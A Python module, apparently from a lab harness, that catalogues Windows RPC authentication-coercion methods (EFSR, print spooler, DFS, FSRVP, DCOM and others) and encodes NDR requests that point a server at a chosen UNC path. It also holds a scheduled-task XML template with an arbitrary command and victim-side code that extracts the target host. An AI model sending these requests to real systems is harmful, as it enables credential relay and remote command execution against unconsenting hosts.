"""The coerced methods: one table for the caller (call.py) and for the victim (victim.py).

Layouts are those of MS-EFSR, MS-RPRN, MS-PAR, MS-DFSNM, MS-FSRVP, MS-EVEN, MS-TSCH, MS-RRP, MS-DNSP,
MS-DHCPM, MS-RAIW and MS-DCOM. srvsvc 74 is documented nowhere; its
name is the catalogue's and its layout that of public recordings.
"""

import os
import re
import struct
from typing import NamedTuple

NDR32 = ("8a885d04-1ceb-11c9-9fe8-08002b104860", "2.0")
NDR64 = ("71710533-beba-4937-8319-b5dbef9ccc36", "1.0")

# name -> (UUID, version, the pipe it lives on, whether a dynamic TCP port has it too)
INTERFACES = {
    "efsr-lsa": ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0", "lsarpc", False),
    "efsr": ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0", "efsrpc", True),
    "rprn": ("12345678-1234-abcd-ef00-0123456789ab", "1.0", "spoolss", True),
    "par": ("76f03f96-cdfd-44fc-a22c-64950a001209", "1.0", "spoolss", True),
    "dfsnm": ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0", "netdfs", False),
    "fsrvp": ("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0", "fssagentrpc", False),
    "even": ("82273fdc-e32a-18c3-3f78-827929dc23ea", "0.0", "eventlog", False),
    "srvs": ("4b324fc8-1670-01d3-1278-5a47bf6ee188", "3.0", "srvsvc", False),
    "tsch": ("86d35949-83c9-4044-b424-db363231fd0c", "1.0", "atsvc", True),
    "rrp": ("338cd001-2244-31f1-aaaa-900038001003", "1.0", "winreg", True),
    "dnsp": ("50abc2a4-574d-40b3-9d66-ee4fd5fba076", "5.0", "dnsserver", True),
    "dhcpm": ("5b821720-f63b-11d0-aad2-00c04fc324db", "1.0", "dhcpserver", True),
    "raiw": ("45f52c28-7f9f-101a-b52b-08002b2efabe", "1.0", "winspipe", True),
    "dcom": ("4d9f4ab8-7d1c-11cf-861e-0020af6e7c57", "0.0", None, True),
}
LSA_PIPES = ("lsarpc", "lsass", "samr", "netlogon")  # four names of one pipe on Windows
PIPES = sorted({row[2] for row in INTERFACES.values() if row[2]} | set(LSA_PIPES))
PAR_OBJECT = "9940ca8e-512f-4c58-88a9-61098d6896bd"  # MS-PAR 2.1: requests carry this object

BAD_NETPATH, SERVER_UNAVAILABLE, ACCESS_DENIED = 0x35, 0x6BA, 0x5


class Method(NamedTuple):
    interface: str
    opnum: int
    name: str
    stub: str  # what the request holds, see encode()
    before_status: int = 0  # zero bytes of [out] parameters before the status
    status: int = BAD_NETPATH


METHODS = {
    "efsr-0": Method("efsr", 0, "EfsRpcOpenFileRaw", "path u32=0", 20),
    "efsr-4": Method("efsr", 4, "EfsRpcEncryptFileSrv", "path"),
    "efsr-5": Method("efsr", 5, "EfsRpcDecryptFileSrv", "path u32=0"),
    "efsr-6": Method("efsr", 6, "EfsRpcQueryUsersOnFile", "path", 4),
    "efsr-7": Method("efsr", 7, "EfsRpcQueryRecoveryAgents", "path", 4),
    "efsr-8": Method("efsr", 8, "EfsRpcRemoveUsersFromFile", "path u32=0 null"),
    "efsr-9": Method("efsr", 9, "EfsRpcAddUsersToFile", "path u32=0 null"),
    "efsr-12": Method("efsr", 12, "EfsRpcFileKeyInfo", "path u32=1", 4),
    "efsr-13": Method(
        "efsr", 13, "EfsRpcDuplicateEncryptionInfoFile", "path path u32=2 u32=0 null u32=0"
    ),
    "efsr-15": Method("efsr", 15, "EfsRpcAddUsersToFileEx", "u32=2 null path u32=0 null"),
    "efsr-16": Method("efsr", 16, "EfsRpcFileKeyInfoEx", "u32=0 null path u32=1", 4),
    "efsr-21": Method("efsr", 21, "EfsRpcEncryptFileExSrv", "path null u32=0"),
    "rprn-62": Method(
        "rprn",
        62,
        "RpcRemoteFindFirstPrinterChangeNotification",
        "handle u32=256 u32=0 upath u32=0 u32=0 null",
        4,
        SERVER_UNAVAILABLE,
    ),
    "rprn-65": Method(
        "rprn",
        65,
        "RpcRemoteFindFirstPrinterChangeNotificationEx",
        "handle u32=256 u32=0 upath u32=0 null",
        0,
        SERVER_UNAVAILABLE,
    ),
    "par-0": Method(
        "par", 0, "RpcAsyncOpenPrinter", "upath null u32=0 null u32=131080 u32=0 u32=0 null", 20
    ),
    "dfsnm-1": Method("dfsnm", 1, "NetrDfsAdd", "path text=SERVER utext=share null u32=1"),
    "dfsnm-12": Method("dfsnm", 12, "NetrDfsAddStdRoot", "path text=share text=x u32=0"),
    "dfsnm-13": Method("dfsnm", 13, "NetrDfsRemoveStdRoot", "path text=share u32=0"),
    "dfsnm-23": Method(
        "dfsnm", 23, "NetrDfsAddRootTarget", r"utext=\\SERVER\dfs upath u32=1 null u8=1 u32=0"
    ),
    "dfsnm-24": Method("dfsnm", 24, "NetrDfsRemoveRootTarget", r"utext=\\SERVER\dfs upath u32=0"),
    "fsrvp-8": Method("fsrvp", 8, "IsPathSupported", "path", 8, 0x80042308),
    "fsrvp-9": Method("fsrvp", 9, "IsPathShadowCopied", "path", 8, 0x80042308),
    "even-9": Method("even", 9, "ElfrOpenBELW", "null ustring u32=1 u32=1", 20, 0xC00000BE),
    "srvs-74": Method(
        "srvs",
        74,
        "NetrServerCertificateMapping",
        r"utext=\\SERVER u32=2 u32=2 ref ref ref ref ref ref ref ref ref ref ref"
        " text=LabCertificate text=a3011a23 text=CN=LabCA text=d1ebb23a text=Lab"
        " text=20260101 text=20290119 path path text=Member",
        0,
        ACCESS_DENIED,
    ),
    "tsch-1": Method("tsch", 1, "SchRpcRegisterTask", "utext=\\lab task u32=2 null u32=3 u32=0 null", 8),
    "rrp-20": Method("rrp", 20, "BaseRegSaveKey", "handle ustring null"),
    "dhcpm-44": Method("dhcpm", 44, "R_DhcpBackupDatabase", "utext=ADDRESS path"),
    "raiw-3": Method("raiw", 3, "R_WinsDoStaticInit", "upath u32=0"),
    "dnsp-0": Method(
        "dnsp", 0, "R_DnssrvOperation", "utext=SERVER null u32=0 uatext=LogFilePath u32=3 u32=3 upath"
    ),
    # Three calls activate remotely and the project's catalogue has one name for them.
    "dcom-oxid": Method("dcom", 0, "Remote activation with a foreign object reference", "activation"),
}

# Methods that want a handle get it here first: opnum and request
OPENERS = {
    "rprn": (1, r"utext=\\SERVER null u32=0 null u32=0"),  # RpcOpenPrinter
    "rrp": (2, "null u32=33554432"),  # OpenLocalMachine
}


def interface_of(method, pipe):
    """EFSR has one interface on the LSA's pipes and another on its own"""
    return "efsr-lsa" if method.interface == "efsr" and pipe in LSA_PIPES else method.interface


def by_call():
    """(UUID, opnum) -> method, as the victim needs it"""
    table = {(INTERFACES[m.interface][0], m.opnum): m for m in METHODS.values()}
    lsa = INTERFACES["efsr-lsa"][0]
    table |= {(lsa, m.opnum): m for m in METHODS.values() if m.interface == "efsr"}
    return table


class Ndr:
    """Writes NDR (C706 14) or NDR64 (MS-RPCE 2.2.5), in either byte order"""

    def __init__(self, big=False, wide=False):
        self.order, self.wide = ">" if big else "<", wide
        self.utf16 = "utf-16-be" if big else "utf-16-le"
        self.data, self.referent = b"", 0x20000

    def put(self, size, value):
        self.data += bytes(-len(self.data) % size)
        self.data += struct.pack(self.order + {1: "B", 2: "H", 4: "I", 8: "Q"}[size], value)

    def count(self, value):
        self.put(8 if self.wide else 4, value)

    def pointer(self, null=False):
        self.referent += 4
        self.count(0 if null else self.referent)

    def string(self, text, narrow=False):
        units = text + "\0"
        for value in (len(units), 0, len(units)):
            self.count(value)
        self.data += units.encode("latin1" if narrow else self.utf16)

    def unicode_string(self, text):
        """RPC_UNICODE_STRING, its characters right after it"""
        self.data += bytes(-len(self.data) % (8 if self.wide else 4))
        self.put(2, 2 * len(text))
        self.put(2, 2 * len(text))
        self.pointer()
        for value in (len(text), 0, len(text)):
            self.count(value)
        self.data += text.encode(self.utf16)


def encode(stub, path, handle=b"", big=False, wide=False):
    """The request's stub: path and upath are [string] and [string, unique],
    ustring is an RPC_UNICODE_STRING; SERVER and ADDRESS stand for the victim"""
    ndr = Ndr(big, wide)
    for token in stub.split():
        kind, _, value = token.partition("=")
        value = value.replace("SERVER", os.environ["SRV_NAME"]).replace("ADDRESS", os.environ["SRV"])
        if kind == "u32":
            ndr.put(4, int(value))
        elif kind == "u8":
            ndr.put(1, int(value))
        elif kind in ("null", "ref"):
            ndr.pointer(kind == "null")
        elif kind == "handle":
            ndr.data += bytes(-len(ndr.data) % 4) + handle
        elif kind == "ustring":
            ndr.unicode_string(path)
        elif kind == "task":
            ndr.string(TASK.format(path))
        elif kind == "activation":
            return activation(path)
        else:  # path upath text utext uatext
            if kind.startswith("u"):
                ndr.pointer()
            ndr.string(path if kind.endswith("path") else value, kind == "uatext")
    return ndr.data


TASK = (
    '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
    'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec>'
    "<Command>{}</Command></Exec></Actions></Task>"
)


def strings(stub, big=False, wide=False):
    """Every NDR string of 16-bit units in a stub, wherever it stands"""
    order, size = ">" if big else "<", 24 if wide else 12
    at = 0
    while at + size + 2 <= len(stub):
        limit, offset, count = struct.unpack_from(order + ("QQQ" if wide else "III"), stub, at)
        end = at + size + 2 * count
        if offset == 0 and 1 < count <= limit < 4096 and end <= len(stub):
            text = stub[at + size : end].decode("utf-16-be" if big else "utf-16-le", "replace")
            if text.rstrip("\0").isprintable():
                yield text.rstrip("\0")
                at = end + -end % 4
                continue
        at += 4


def path_in(interface, stub, own_names, big=False, wide=False):
    """The path or host that a request sends the victim to: the first that is not itself"""
    for text in strings(stub, big, wide):
        command = re.search("<Command>(.*)</Command>", text)
        text = command.group(1) if command else text
        host = host_of(text)
        unc = text.startswith(("\\\\", "\\??\\"))
        if (unc or interface == "dfsnm") and host and host.lower() not in own_names:
            return text
        if interface == "dfsnm" and not unc:
            return None  # the server itself, as in ordinary administration
    return None


def host_of(path):
    path = re.sub(r"^\\(\\|\?)[?.]\\UNC\\", r"\\\\", path, flags=re.IGNORECASE)
    return re.split(r"[\\/]", path.lstrip("\\"))[0]


# --- MS-DCOM: an activation request whose storage object says where its exporter is


def dual_string_array(binding):
    """DUALSTRINGARRAY (MS-DCOM 2.2.19.1) with one string binding over TCP and no security binding"""
    text = struct.pack("<H", 7) + (binding + "\0").encode("utf-16-le") + bytes(2)
    security = struct.pack("<HH", 10, 0xFFFF) + bytes(2) + bytes(2)
    entries = (len(text) + len(security)) // 2
    return struct.pack("<HH", entries, len(text) // 2) + text + security


def objref(binding):
    """OBJREF_STANDARD (MS-DCOM 2.2.18.4) of an IStorage that lives at `binding`"""
    iid = bytes.fromhex("0b00000000000000c000000000000046")  # IID_IStorage
    standard = struct.pack("<IIQQ", 0, 1, 0x1122334455667788, 0x8877665544332211) + bytes(range(16))
    return b"MEOW" + struct.pack("<I", 1) + iid + standard + dual_string_array(binding)


def activation(binding):
    """RemoteActivation (MS-DCOM 3.1.2.5.2.3.1), opnum 0 of IActivation"""
    clsid = bytes.fromhex("c46d5c85f0c1d211b1790000f87a3b4a")
    reference = objref(binding)
    data = struct.pack("<HHII", 5, 7, 1, 0) + bytes(range(16, 32)) + bytes(4)  # ORPCTHIS
    data += clsid + bytes(4)  # no object name
    data += struct.pack("<III", 0x20000, len(reference), len(reference)) + reference
    data += bytes(-len(data) % 4)
    data += struct.pack("<IIIII", 2, 0, 1, 0x20004, 1)  # impersonation, mode, one interface
    data += bytes.fromhex("0000000000000000c000000000000046")  # IID_IUnknown
    return data + struct.pack("<HHIH", 1, 0, 1, 7)  # one protocol sequence: TCP


def storage_exporter(stub):
    """Where the object in an activation request is exported from"""
    at = stub.find(b"MEOW")
    if at < 0:
        return None
    start = at + 24 + 40 + 4 + 2
    text = stub[start : start + 256].decode("utf-16-le", "replace")
    return text.split("\0")[0]
